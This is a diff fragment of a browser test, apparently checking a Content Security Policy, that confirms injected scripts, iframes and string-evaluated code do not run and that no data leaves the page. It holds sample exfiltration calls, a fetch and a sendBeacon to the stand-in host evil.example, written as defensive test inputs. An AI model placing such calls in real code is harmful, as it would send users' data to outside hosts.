@@ -82,11 +82,8 @@ test('a script that is put into a page does not run, and nothing is sent elsewhe
     const frame = document.createElement('iframe');
     frame.srcdoc = '<script>parent.ran.push("frame")</script>';
     document.body.append(script, image, foreign, frame);
-    try {
-      new Function('globalThis.ran.push("eval")')();
-    } catch {
-      // As it should be.
-    }
+    // Not `eval`: what Playwright itself runs may do that.
+    setTimeout('globalThis.ran.push("text")');
     await fetch('https://evil.example/').catch(() => undefined);
     navigator.sendBeacon('https://evil.example/', 'x');
     await new Promise((done) => setTimeout(done, 500));
